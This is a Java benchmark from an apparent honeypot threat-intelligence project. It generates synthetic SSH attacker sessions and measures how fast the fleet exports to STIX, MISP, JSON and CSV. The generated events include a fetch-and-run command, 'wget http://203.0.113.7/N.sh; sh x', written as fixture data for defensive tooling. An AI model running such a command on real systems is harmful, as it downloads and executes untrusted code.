package org.decnet.bench;

import java.io.IOException;
import java.io.OutputStream;
import java.lang.management.ManagementFactory;
import java.lang.management.MemoryPoolMXBean;
import java.lang.management.MemoryType;
import java.lang.management.ThreadMXBean;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import org.decnet.attack.AttackCatalog;
import org.decnet.attack.AttackCatalogs;
import org.decnet.engine.port.Stores;
import org.decnet.engine.tag.TaggedEvent;
import org.decnet.export.misp.MispSettings;
import org.decnet.export.stix.Tlp;
import org.decnet.model.event.Event;
import org.decnet.model.event.EventKind;
import org.decnet.model.event.Field;
import org.decnet.model.tag.Scope;
import org.decnet.server.export.ExportFormat;
import org.decnet.server.export.Exports;
import org.decnet.store.SqliteStores;
import org.decnet.store.StoreSettings;
import org.decnet.testkit.Hashes;
import org.decnet.testkit.Scene;
import org.decnet.testkit.Tags;

/**
 * Exports a fleet of generated attackers in each format and prints how long it takes and how much
 * heap is used at most; run it with {@code -Xmx512m}. Arguments: the number of attackers, and a
 * folder that keeps them for the next run, and formats if not all; with {@code facts} in place of a
 * folder no database is there, and what is measured is the writing alone.
 */
public final class ExportBench {
  private static final int BATCH = 2000;
  private static final double MEBI = 1024 * 1024;
  private static final double NANOS = 1e9;
  private static final int FILES = 500;
  private static final List<ExportFormat> FORMATS =
      List.of(ExportFormat.STIX, ExportFormat.MISP, ExportFormat.JSON, ExportFormat.CSV);

  private ExportBench() {}

  /** Runs the bench. */
  public static void main(String[] arguments) throws IOException {
    int attackers = arguments.length > 0 ? Integer.parseInt(arguments[0]) : 100_000;
    Path folder =
        arguments.length > 1
            ? Path.of(arguments[1])
            : Files.createTempDirectory("decnet-export-bench");
    AttackCatalog attack = new AttackCatalogs().load();
    Output.line(
        String.format(
            Locale.ROOT,
            "%,d attackers, heap of %.0f MiB",
            attackers,
            Runtime.getRuntime().maxMemory() / MEBI));
    if (folder.endsWith("facts")) {
      new GeneratedFacts(attackers).measure(attack);
      return;
    }
    boolean filled = Files.exists(folder.resolve("decnet.db"));
    try (Stores stores = SqliteStores.open(StoreSettings.of(folder))) {
      if (!filled) {
        fill(stores, attackers);
      }
      Exports exports = new Exports(stores, attack, MispSettings.DEFAULTS, "bench");
      for (ExportFormat format : formats(arguments)) {
        measure(
            format.word(),
            out -> exports.of(new Scope.Fleet(), format, Tlp.GREEN).orElseThrow().write(out));
      }
    }
  }

  private static List<ExportFormat> formats(String[] arguments) {
    return arguments.length < 3
        ? FORMATS
        : Arrays.stream(arguments)
            .skip(2)
            .map(word -> ExportFormat.ofWord(word).orElseThrow())
            .toList();
  }

  /** Something that writes. */
  @FunctionalInterface
  interface Writing {
    void to(OutputStream out) throws IOException;
  }

  /** Writes into nothing and prints what that took. */
  static void measure(String name, Writing writing) throws IOException {
    List<MemoryPoolMXBean> pools =
        ManagementFactory.getMemoryPoolMXBeans().stream()
            .filter(pool -> pool.getType() == MemoryType.HEAP)
            .toList();
    pools.forEach(MemoryPoolMXBean::resetPeakUsage);
    Counting counting = new Counting();
    ThreadMXBean threads = ManagementFactory.getThreadMXBean();
    long start = System.nanoTime();
    long worked = threads.getCurrentThreadCpuTime();
    writing.to(counting);
    double work = (threads.getCurrentThreadCpuTime() - worked) / NANOS;
    double seconds = (System.nanoTime() - start) / NANOS;
    long peak = pools.stream().mapToLong(pool -> pool.getPeakUsage().getUsed()).sum();
    Output.line(
        String.format(
            Locale.ROOT,
            "%-5s %8.1f MiB written %7.1f s, %.1f of a processor   pools of the heap at most %.0f"
                + " MiB",
            name,
            counting.bytes / MEBI,
            seconds,
            work,
            peak / MEBI));
  }

  private static void fill(Stores stores, int attackers) {
    List<TaggedEvent> batch = new ArrayList<>();
    for (int i = 0; i < attackers; i++) {
      add(batch, i);
      if (batch.size() >= BATCH) {
        stores.events().write(batch);
        batch.clear();
      }
    }
    stores.events().write(batch);
  }

  /** Each logs in, types a line that is tagged, and brings a file that some others bring too. */
  private static void add(List<TaggedEvent> batch, int number) {
    Scene scene =
        Scene.ssh(
            "web-" + number % 8,
            "s" + number,
            "2001:db8::"
                + Integer.toHexString(number >> 16)
                + ':'
                + Integer.toHexString(number & 0xFFFF));
    double second = number / 10.0;
    Event command = scene.command(second + 1, "wget http://203.0.113.7/" + number + ".sh; sh x");
    batch.add(
        new TaggedEvent(scene.login(second, "root", "p" + number % 100, "success"), List.of()));
    batch.add(
        new TaggedEvent(
            command,
            List.of(
                Tags.of(command, "R0001", "T1105", 0.9),
                Tags.of(command, "R0002", "T1059.004", 0.8))));
    batch.add(
        new TaggedEvent(
            scene
                .event(EventKind.FILE, second + 2)
                .set(Field.DIRECTION, "download")
                .set(Field.SHA256, Hashes.sha256("file " + number % FILES))
                .set(Field.SIZE, 1000L)
                .set(Field.FILENAME, "x.sh")
                .set(Field.URL, "http://files.example/" + number + ".sh")
                .set(Field.URL_HOST, "files.example")
                .set(Field.URL_PATH, "/" + number + ".sh")
                .build(),
            List.of()));
  }

  /** Counts what is written and keeps nothing. */
  private static final class Counting extends OutputStream {
    private long bytes;

    @Override
    public void write(int one) {
      bytes++;
    }

    @Override
    public void write(byte[] some, int from, int length) {
      bytes += length;
    }
  }
}
